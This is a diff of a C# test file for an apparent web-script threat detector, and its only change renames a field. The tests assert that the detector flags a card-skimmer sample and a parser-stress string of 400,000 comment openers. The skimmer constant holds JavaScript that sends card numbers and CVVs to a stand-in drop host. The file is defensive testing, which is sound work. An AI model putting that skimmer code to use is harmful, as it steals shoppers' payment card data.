@@ -14,7 +14,7 @@ public sealed class HostileScriptTests
 {
     private const string Url = "https://cdn.example/t.js";
     private const string Skimmer = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };\n";
-    private static readonly string _deadly = string.Concat(Enumerable.Repeat("<!--\n", 400_000)) + "a=1";
+    private static readonly string Deadly = string.Concat(Enumerable.Repeat("<!--\n", 400_000)) + "a=1";
 
     private static CancellationToken Cancel => TestContext.Current.CancellationToken;
 
@@ -24,7 +24,7 @@ public sealed class HostileScriptTests
     {
         await using var site = await JudgedSite.CreateAsync(provider);
 
-        await site.CrawlAsync(Of("https://shop.example/", (File(Url), _deadly)));
+        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Deadly)));
 
         var script = await site.ScriptAsync(Url);
         Assert.Equal((VerdictKind.Suspicious, 30), (script.Verdict, script.Score));
@@ -40,7 +40,7 @@ public sealed class HostileScriptTests
     {
         await using var site = await JudgedSite.CreateAsync(provider);
 
-        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer + _deadly)));
+        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Skimmer + Deadly)));
 
         Assert.Equal(VerdictKind.Malicious, (await site.ScriptAsync(Url)).Verdict);
         Assert.Single(await site.AttacksAsync());
@@ -53,7 +53,7 @@ public sealed class HostileScriptTests
         await using var site = await JudgedSite.CreateAsync(provider);
         await site.CrawlAsync(Of("https://shop.example/", (File(Url), "var a = 1;")));
 
-        await site.CrawlAsync(Of("https://shop.example/", (File(Url), _deadly)));
+        await site.CrawlAsync(Of("https://shop.example/", (File(Url), Deadly)));
 
         var change = await site.AskAsync(db => db.Changes.AsNoTracking().SingleAsync(Cancel));
         Assert.Equal((ChangeKind.ScriptChanged, ChangeClass.Capability), (change.Kind, change.Class));
